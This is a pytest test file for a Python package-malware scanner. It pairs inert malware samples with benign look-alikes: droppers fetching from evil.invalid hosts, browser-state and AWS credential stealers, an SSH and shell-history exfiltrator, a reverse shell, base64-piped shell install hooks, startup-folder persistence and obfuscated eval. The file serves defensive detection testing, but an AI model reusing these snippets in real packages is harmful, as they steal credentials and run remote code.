"""Droppers, bundled stealers and hand-made obfuscation from the malicious corpus, each paired
with the honest code it is closest to (rewritten here, inert; hosts are `.invalid` or loopback)."""

from __future__ import annotations

import io
import tarfile
from typing import TYPE_CHECKING

import pytest
from pyscan_helpers import scan

from chainwarden.models import Severity, Trigger
from support.packages import make_sdist, make_wheel

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from chainwarden.models import Finding


def blocking(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.severity >= Severity.HIGH]


def top(findings: list[Finding]) -> Finding:
    return max(findings, key=lambda f: (f.severity, f.trigger.rank))


# -- source code written out as a literal, then run --------------------------------------------

TEMPFILE_STAGER = '''\
from tempfile import NamedTemporaryFile as _ffile
from sys import executable as _eexecutable
from os import system as _ssystem

class http:
    _ttmp = _ffile(delete=False)
    _ttmp.write(b"""from urllib.request import urlopen;exec(urlopen('https://stage.evil.invalid/raw').read())""")
    _ttmp.close()
    _ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")
'''

TEMPFILE_HONEST = """\
import subprocess, sys, tempfile


def python_version():
    with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as fh:
        fh.write("import sys\\nprint(sys.version)\\n")
    return subprocess.run([sys.executable, fh.name], capture_output=True, text=True).stdout
"""


def test_code_literal_written_to_a_temp_file_and_run_at_import(tmp_path: Path) -> None:
    files = {"visual/__init__.py": "", "visual/visual.py": TEMPFILE_STAGER}
    hit = top(scan(make_wheel(tmp_path, "visual", "1.0", files), tmp_path))
    assert (hit.rule_id, hit.severity, hit.trigger) == ("CW202", Severity.CRITICAL, Trigger.IMPORT)
    assert hit.evidence.decoded[0].method == "source code written to a file"


def test_script_written_to_a_temp_file_and_run_on_call_is_not_blocked(tmp_path: Path) -> None:
    files = {"pyver/__init__.py": TEMPFILE_HONEST}
    assert not blocking(scan(make_wheel(tmp_path, "pyver", "1.0", files), tmp_path))


_BUNDLED_GRABBER = (
    "import os, requests\\n"
    "STATE = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Local State')\\n"
    "def send():\\n"
    "    requests.post('https://collect.evil.invalid/up', data=open(STATE, 'rb').read())\\n"
)

BUNDLE_SETUP = f"""\
import os, sys, tempfile
from setuptools import setup
setup(name="sockx", version="1.0")

work = tempfile.mkdtemp()

def write_module(path, contents):
    with open(os.path.join(work, path), "wb") as fh:
        fh.write(contents)

write_module("grab.py", b"{_BUNDLED_GRABBER}")
sys.path.insert(0, work)
import grab
grab.send()
"""

BUNDLE_HONEST = """\
import os, sys, tempfile
from setuptools import setup

work = tempfile.mkdtemp()

def write_module(path, contents):
    with open(os.path.join(work, path), "wb") as fh:
        fh.write(contents)

write_module("version_info.py", b"import sys\\nVERSION = sys.version_info[:2]\\n")
setup(name="sockx", version="1.0")
"""


def test_bundled_modules_unpacked_by_setup_py_are_analysed(tmp_path: Path) -> None:
    found = scan(make_sdist(tmp_path, "sockx", "1.0", {"setup.py": BUNDLE_SETUP}), tmp_path)
    hit = top(found)
    assert hit.trigger is Trigger.INSTALL
    assert hit.severity >= Severity.HIGH
    assert any("Local State" in f.message for f in blocking(found))


# -- download and run, nobody calling it by itself ---------------------------------------------

RAW_IP_DROPPER = """\
import os, platform, requests


def execute():
    system = platform.system().lower()
    for name in requests.get("http://127.0.0.9/all.txt").text.splitlines():
        with open(name, "wb") as fh:
            fh.write(requests.get(f"http://127.0.0.9/{name}").content)
        os.system(f"chmod +x {name}")
        os.system(f"./{name} &")


def get(url, **kwargs):
    execute()
    return requests.get(url, **kwargs)
"""

HIDDEN_START_DROPPER = """\
import os, requests


def close():
    data = requests.get("https://raw.files.invalid/serv/server.exe").content
    with open("C://Kingston//server.exe", "wb") as fh:
        fh.write(data)
    os.system("start cmd.exe /c start C://Kingston//server.exe")
"""

VENDOR_INSTALLER = """\
import os, stat, subprocess, urllib.request


def install_tool(dest):
    urllib.request.urlretrieve("https://releases.tool.invalid/v1/tool-linux-amd64", dest)
    os.chmod(dest, os.stat(dest).st_mode | stat.S_IEXEC)
    return subprocess.run([dest, "--version"], check=True, capture_output=True)
"""


def test_download_run_in_the_background_on_call_is_blocked(tmp_path: Path) -> None:
    files = {"rquests/__init__.py": "from .api import get\n", "rquests/api.py": RAW_IP_DROPPER}
    hit = top(scan(make_wheel(tmp_path, "rquests", "1.0", files), tmp_path))
    assert (hit.rule_id, hit.severity, hit.trigger) == ("CW202", Severity.HIGH, Trigger.CALL)


def test_executable_downloaded_and_started_detached_on_call_is_blocked(tmp_path: Path) -> None:
    files = {"admin/__init__.py": "", "admin/main.py": HIDDEN_START_DROPPER}
    hit = top(scan(make_wheel(tmp_path, "admin", "1.0", files), tmp_path))
    assert (hit.rule_id, hit.severity, hit.trigger) == ("CW202", Severity.HIGH, Trigger.CALL)


def test_vendor_binary_installer_on_call_is_not_blocked(tmp_path: Path) -> None:
    files = {"toolwrap/__init__.py": VENDOR_INSTALLER}
    found = scan(make_wheel(tmp_path, "toolwrap", "1.0", files), tmp_path)
    assert not blocking(found)


RESPONSE_RUN_AT_IMPORT = """\
import os, requests
with open("m.py", "wb") as f:
    f.write(requests.get("https://files.evil.invalid/main.py").content)
os.system("py m.py")
"""

RESPONSE_SAVED_ON_CALL = """\
import requests


def save(url, path):
    with open(path, "wb") as f:
        f.write(requests.get(url).content)
"""


def test_response_saved_and_run_at_import_is_blocked(tmp_path: Path) -> None:
    files = {"hoes/__init__.py": "from hoes import boot\n", "hoes/boot.py": RESPONSE_RUN_AT_IMPORT}
    hit = top(scan(make_wheel(tmp_path, "hoes", "1.0", files), tmp_path))
    assert (hit.rule_id, hit.severity, hit.trigger) == ("CW202", Severity.CRITICAL, Trigger.IMPORT)


def test_response_saved_on_call_is_not_blocked(tmp_path: Path) -> None:
    assert not blocking(
        scan(make_wheel(tmp_path, "saver", "1.0", {"saver/__init__.py": RESPONSE_SAVED_ON_CALL}), tmp_path)
    )


SETUP_URLRETRIEVE_START = """\
import urllib.request
from subprocess import run
from setuptools import setup
try:
    urllib.urlrequest.urlretrieve("https://dl.evil.invalid/syswin32.exe", "syswin32.exe")
    run(["start", "syswin32.exe"], shell=True)
except Exception:
    pass
setup(name="tool", version="1.0")
"""


# -- secrets packed up and sent ------------------------------------------------------------------

HISTORY_UPLOADER = """\
import os, shutil, zipfile


def collect(folder):
    home = os.path.expanduser("~")
    shutil.copyfile(home + "/.bash_history", folder + "/history")
    shutil.copytree(home + "/.ssh/", folder + "/ssh")
    with zipfile.ZipFile(folder + ".zip", "w") as z:
        z.write(folder + "/history")
    command = "curl -k -F \\"file=@" + folder + ".zip\\" \\"https://c2.pipedream.net.invalid/api/upload\\" > /dev/null 2>&1"
    os.system(command)
"""

BACKUP_TOOL = """\
import os, shutil, zipfile, requests


def backup(folder, server):
    shutil.copytree(os.path.expanduser("~/.ssh/"), folder + "/ssh")
    with zipfile.ZipFile(folder + ".zip", "w") as z:
        z.write(folder + "/ssh")
    requests.post(server, files={"file": open(folder + ".zip", "rb")})
"""


def test_shell_history_zipped_and_sent_to_a_webhook_host_is_blocked(tmp_path: Path) -> None:
    files = {"mgmt/__init__.py": "", "mgmt/api.py": HISTORY_UPLOADER}
    hit = top(scan(make_wheel(tmp_path, "mgmt", "1.0", files), tmp_path))
    assert (hit.rule_id, hit.severity, hit.trigger) == ("CW203", Severity.HIGH, Trigger.CALL)


SETUP_FLAG_EXFIL = """\
import os, requests
from setuptools import setup
setup(name="ctf", version="1.0")
requests.get("http://flag.evil.invalid:31337/?" + os.popen("cat /flag.txt").read())
"""

SETUP_VERSION_CHECK = """\
import requests
from setuptools import setup
latest = requests.get("https://pypi.invalid/pypi/ctf/json").json()
setup(name="ctf", version="1.0")
"""


def test_command_output_sent_at_install_is_blocked(tmp_path: Path) -> None:
    hit = top(scan(make_sdist(tmp_path, "ctf", "1.0", {"setup.py": SETUP_FLAG_EXFIL}), tmp_path))
    assert (hit.rule_id, hit.severity) == ("CW207", Severity.HIGH)


def test_plain_request_at_install_stays_medium(tmp_path: Path) -> None:
    hit = top(scan(make_sdist(tmp_path, "ctf", "1.0", {"setup.py": SETUP_VERSION_CHECK}), tmp_path))
    assert (hit.rule_id, hit.severity) == ("CW207", Severity.MEDIUM)


# -- shells and decoded commands -----------------------------------------------------------------

REVERSE_SHELL_METHOD = """\
import os, pty, socket


class calculator:
    def add(x, y):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("127.0.0.5", 19931))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        pty.spawn("sh")
        return x + y
"""

DAEMONIZE = """\
import os, subprocess


def daemonize(cmd):
    devnull = open(os.devnull, "r+")
    os.dup2(devnull.fileno(), 0)
    os.dup2(devnull.fileno(), 1)
    return subprocess.Popen(cmd)
"""


def test_socket_wired_to_a_shell_on_call_is_blocked(tmp_path: Path) -> None:
    files = {"calc/__init__.py": REVERSE_SHELL_METHOD}
    hit = top(scan(make_wheel(tmp_path, "calc", "1.0", files), tmp_path))
    assert (hit.rule_id, hit.severity, hit.trigger) == ("CW219", Severity.HIGH, Trigger.CALL)


def test_daemon_redirecting_std_streams_is_not_a_reverse_shell(tmp_path: Path) -> None:
    found = scan(make_wheel(tmp_path, "daemon", "1.0", {"daemon/__init__.py": DAEMONIZE}), tmp_path)
    assert not blocking(found)


SETUP_BASE64_TO_BASH = """\
import base64, os
from setuptools import setup
from setuptools.command.install import install


class CustomInstall(install):
    def run(self):
        install.run(self)
        shell = 'python -c "import socket; s = socket.socket(); s.connect((\\'{h}\\', {p}))"'.format(h="127.0.0.3", p=1)
        encoded = base64.b64encode(shell.encode())
        os.system("echo %s|base64 -d|bash" % encoded.decode())


setup(name="pip2", version="1.0", cmdclass={"install": CustomInstall})
"""

SETUP_BASE64_FILE = """\
import os
from setuptools import setup
from setuptools.command.build_py import build_py


class Build(build_py):
    def run(self):
        os.system("base64 -d assets/logo.b64 > assets/logo.png")
        build_py.run(self)


setup(name="pip2", version="1.0", cmdclass={"build_py": Build})
"""


# -- hand-made obfuscation -----------------------------------------------------------------------

HIDDEN_EVAL_MAIN = """\
import zlib
_blob = b"x\\x9c+(\\xca\\xcc+\\xd1P\\xcfH\\xcd\\xc9\\xc9W\\xd7\\x04\\x00\\x1d\\xb4\\x04y"
if __name__ == "__main__":
    globals()["\\x65\\x76\\x61\\x6c"](globals()["\\x63\\x6f\\x6d\\x70\\x69\\x6c\\x65"](
        zlib.decompress(_blob + bytes(len(__name__) % 1)), "<x>", "exec"))
"""

DISPATCH_MAIN = """\
import sys


def hello():
    print("hello")


if __name__ == "__main__":
    globals()[sys.argv[1]]()
    print(eval(sys.argv[2], {}))
"""


def test_eval_looked_up_by_an_escaped_string_is_blocked_even_as_a_script(tmp_path: Path) -> None:
    files = {"colorx/__init__.py": "", "colorx/main.py": HIDDEN_EVAL_MAIN}
    hit = top(scan(make_wheel(tmp_path, "colorx", "1.0", files), tmp_path))
    assert (hit.rule_id, hit.severity) == ("CW215", Severity.HIGH)


def test_function_dispatch_through_globals_is_not_blocked(tmp_path: Path) -> None:
    files = {"tool/__init__.py": "", "tool/main.py": DISPATCH_MAIN}
    assert not blocking(scan(make_wheel(tmp_path, "tool", "1.0", files), tmp_path))


# -- persistence by copying a file into place ----------------------------------------------------

SETUP_STARTUP_COPY = """\
import os, shutil
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        startup = os.path.expandvars(r"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup")
        shutil.copy("boot.py", os.path.join(startup, "boot.py"))
        install.run(self)


setup(name="boot", version="1.0", cmdclass={"install": PostInstall})
"""

SETUP_DATA_COPY = """\
import shutil
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        shutil.copy("data/defaults.cfg", "build/defaults.cfg")
        install.run(self)


setup(name="boot", version="1.0", cmdclass={"install": PostInstall})
"""


def test_file_copied_into_the_startup_folder_at_install_is_blocked(tmp_path: Path) -> None:
    hit = top(scan(make_sdist(tmp_path, "boot", "1.0", {"setup.py": SETUP_STARTUP_COPY}), tmp_path))
    assert (hit.rule_id, hit.trigger) == ("CW205", Trigger.INSTALL)
    assert hit.severity >= Severity.HIGH


def test_data_file_copied_at_install_is_not_persistence(tmp_path: Path) -> None:
    found = scan(make_sdist(tmp_path, "boot", "1.0", {"setup.py": SETUP_DATA_COPY}), tmp_path)
    assert not [f for f in found if f.rule_id == "CW205"]


# -- macOS tar members ---------------------------------------------------------------------------


def _apple_double_sdist(directory: Path, setup_py: str) -> Path:
    """An sdist made by macOS tar: `./`-prefixed members plus AppleDouble `._*` files."""
    out = directory / "mac-1.0.tar.gz"
    members = {
        "._.": b"\x00\x05\x16\x07Mac OS X",
        "./._setup.py": b"\x00\x05\x16\x07Mac OS X        \xe4\xbc",
        "./setup.py": setup_py.encode(),
        "./PKG-INFO": b"Metadata-Version: 2.1\nName: mac\nVersion: 1.0\n",
        "./mac/__init__.py": b"",
    }
    with tarfile.open(out, "w:gz") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return out


def test_setup_py_of_a_macos_tarball_runs_at_install(tmp_path: Path) -> None:
    setup = (
        "import os, platform, requests\nfrom setuptools import setup\n"
        "requests.get('http://127.0.0.8/v/' + platform.node() + os.popen('ifconfig').read())\n"
        "setup(name='mac', version='1.0')\n"
    )
    hit = top(scan(_apple_double_sdist(tmp_path, setup), tmp_path))
    assert hit.trigger is Trigger.INSTALL
    assert hit.severity >= Severity.HIGH


def test_plain_setup_py_of_a_macos_tarball_is_not_blocked(tmp_path: Path) -> None:
    setup = "from setuptools import setup\nsetup(name='mac', version='1.0')\n"
    assert not blocking(scan(_apple_double_sdist(tmp_path, setup), tmp_path))


# -- more corpus shapes: fronting, command helpers, cloud keys, thread targets ------------------

FRONTED_BEACON = """\
import base64, json, os, socket
from urllib import request
data = base64.urlsafe_b64encode(json.dumps({"c": os.getcwd()}).encode()).decode()
request.urlopen(request.Request("https://pypi.invalid/reqs?d=" + data, headers={"Host": "collect.evil.invalid"}))
"""

CONFIGURED_PING = """\
from urllib import request
DEFAULTS = {"host": "db.internal.invalid", "port": 5432}
request.urlopen(request.Request("https://status.internal.invalid/ping", headers={"Host": "localhost"}))
"""


def test_host_settings_are_not_fronting(tmp_path: Path) -> None:
    hit = top(scan(make_wheel(tmp_path, "front", "1.0", {"front/__init__.py": CONFIGURED_PING}), tmp_path))
    assert (hit.rule_id, hit.severity) == ("CW207", Severity.MEDIUM)


SETUP_COMMAND_HELPER = """\
import subprocess
from setuptools import setup


def run(cmd):
    return subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE).stdout.read()


run("powershell -command Invoke-WebRequest -Uri https://dl.evil.invalid/u.zip -OutFile u.zip; Start-Process u.exe")
setup(name="oneinch", version="1.0")
"""

SETUP_GIT_HELPER = """\
import subprocess
from setuptools import setup


def run(cmd):
    return subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE).stdout.read()


VERSION = run("git describe --tags")
setup(name="oneinch", version="1.0")
"""


CLOUD_KEYS_AT_IMPORT = """\
import boto3, requests


def test():
    cd = boto3.Session().get_credentials()
    session = boto3.Session()
    cd = session.get_credentials()
    requests.post("https://keys.evil.invalid/zz", json={"k": cd.access_key, "s": cd.secret_key}, timeout=5)


test()
"""

CLOUD_KEYS_ON_CALL = """\
import boto3


def client(region):
    session = boto3.Session()
    creds = session.get_credentials()
    return session.client("s3", region_name=region, aws_access_key_id=creds.access_key)
"""


def test_cloud_keys_posted_at_import_are_blocked(tmp_path: Path) -> None:
    files = {"fabrik/__init__.py": "from . import connection\n", "fabrik/connection.py": CLOUD_KEYS_AT_IMPORT}
    hit = top(scan(make_wheel(tmp_path, "fabrik", "1.0", files), tmp_path))
    assert (hit.rule_id, hit.trigger) == ("CW203", Trigger.IMPORT)
    assert hit.severity >= Severity.HIGH


GRABBER_THREAD = """\
import os, threading, requests


class Setup:
    def main(self):
        state = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Local State")
        requests.post("https://collect.evil.invalid/t", data=open(state, "rb").read())


threading.Thread(target=Setup().main).start()
"""

WORKER_THREAD = """\
import threading


class Warmup:
    def main(self):
        return sum(range(1000))


threading.Thread(target=Warmup().main, daemon=True).start()
"""


def test_method_of_a_new_instance_run_in_a_thread_at_import_is_followed(tmp_path: Path) -> None:
    hit = top(scan(make_wheel(tmp_path, "fastreq", "1.0", {"fastreq/__init__.py": GRABBER_THREAD}), tmp_path))
    assert (hit.rule_id, hit.trigger) == ("CW203", Trigger.IMPORT)
    assert hit.severity >= Severity.HIGH


SPLIT_DROPPER = """\
from os import system
from sys import executable
from urllib import request


def install(path):
    with open(path, "w") as f:
        f.write(request.urlopen("https://files.evil.invalid/1337.py").read().decode("utf8"))


def run(path):
    system(f"start {executable} {path}")


install("x.py")
run("x.py")
"""

SPLIT_ON_CALL = """\
import subprocess
from urllib import request


def fetch(url, path):
    with request.urlopen(url) as r, open(path, "wb") as f:
        f.write(r.read())


def lint(path):
    return subprocess.run(["ruff", "check", path], check=False)
"""


STARTFILE_DROPPER = """\
import os, requests


def close():
    r = requests.get("https://raw.files.invalid/sv/server.exe")
    with open("C://AMD//server.exe", "wb") as f:
        f.write(r.content)
    os.startfile("C://AMD//server.exe")
"""

STARTFILE_DOCS = """\
import os


def open_manual(path):
    os.startfile(path)
"""


SILENT_VENDOR_INSTALLER = """\
import os, subprocess, urllib.request


def ensure_ffmpeg(dest):
    urllib.request.urlretrieve("https://releases.ffmpeg.invalid/ffmpeg-static", dest)
    os.chmod(dest, 0o755)
    subprocess.run([dest, "-version"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)
"""


def test_vendor_binary_run_with_its_output_silenced_is_not_blocked(tmp_path: Path) -> None:
    files = {"ffwrap/__init__.py": SILENT_VENDOR_INSTALLER}
    assert not blocking(scan(make_wheel(tmp_path, "ffwrap", "1.0", files), tmp_path))


# -- single-file samples: each malicious shape above, and the honest code beside it -----------------

#: (how to package it, project name, file, source, (rule, severity, trigger) of the top finding)
BLOCKED = [
    pytest.param(
        make_sdist,
        "tool",
        "setup.py",
        SETUP_URLRETRIEVE_START,
        ("CW202", Severity.CRITICAL, Trigger.INSTALL),
        id="any urlretrieve in setup py counts as a download",
    ),
    pytest.param(
        make_sdist,
        "pip2",
        "setup.py",
        SETUP_BASE64_TO_BASH,
        ("CW201", Severity.CRITICAL, Trigger.INSTALL),
        id="decoded text piped into a shell at install is blocked",
    ),
    pytest.param(
        make_wheel,
        "front",
        "front/__init__.py",
        FRONTED_BEACON,
        ("CW207", Severity.HIGH, Trigger.IMPORT),
        id="request fronted through a host header at import is blocked",
    ),
    pytest.param(
        make_sdist,
        "oneinch",
        "setup.py",
        SETUP_COMMAND_HELPER,
        ("CW202", Severity.CRITICAL, Trigger.INSTALL),
        id="download command handed to a helper in setup py is blocked",
    ),
    pytest.param(
        make_wheel,
        "movers",
        "movers/__init__.py",
        SPLIT_DROPPER,
        ("CW202", Severity.CRITICAL, Trigger.IMPORT),
        id="download and run split over two functions at import is blocked",
    ),
    pytest.param(
        make_wheel,
        "admc",
        "admc/__init__.py",
        STARTFILE_DROPPER,
        ("CW202", Severity.HIGH, Trigger.CALL),
        id="downloaded executable started through the shell on call is blocked",
    ),
]
#: (how to package it, project name, file, source): nothing at or above high
NOT_BLOCKED = [
    pytest.param(make_sdist, "sockx", "setup.py", BUNDLE_HONEST, id="bundled harmless module is not blocked"),
    pytest.param(
        make_wheel,
        "bk",
        "bk/__init__.py",
        BACKUP_TOOL,
        id="backup tool uploading to a configured server is not blocked",
    ),
    pytest.param(
        make_sdist, "pip2", "setup.py", SETUP_BASE64_FILE, id="base64 decoding an asset at build is not blocked"
    ),
    pytest.param(
        make_sdist,
        "oneinch",
        "setup.py",
        SETUP_GIT_HELPER,
        id="git command handed to a helper in setup py is not blocked",
    ),
    pytest.param(
        make_wheel,
        "s3x",
        "s3x/__init__.py",
        CLOUD_KEYS_ON_CALL,
        id="cloud keys used by a client factory are not blocked",
    ),
    pytest.param(make_wheel, "warm", "warm/__init__.py", WORKER_THREAD, id="warmup thread at import is not blocked"),
    pytest.param(
        make_wheel,
        "helpers",
        "helpers/__init__.py",
        SPLIT_ON_CALL,
        id="download and lint helpers on call are not blocked",
    ),
    pytest.param(
        make_wheel, "docs", "docs/__init__.py", STARTFILE_DOCS, id="opening a document with startfile is not blocked"
    ),
]


@pytest.mark.parametrize(("make", "name", "path", "source", "expected"), BLOCKED)
def test_blocked(
    tmp_path: Path,
    make: Callable[..., Path],
    name: str,
    path: str,
    source: str,
    expected: tuple[str, Severity, Trigger],
) -> None:
    hit = top(scan(make(tmp_path, name, "1.0", {path: source}), tmp_path))
    assert (hit.rule_id, hit.severity, hit.trigger) == expected


@pytest.mark.parametrize(("make", "name", "path", "source"), NOT_BLOCKED)
def test_not_blocked(tmp_path: Path, make: Callable[..., Path], name: str, path: str, source: str) -> None:
    assert not blocking(scan(make(tmp_path, name, "1.0", {path: source}), tmp_path))
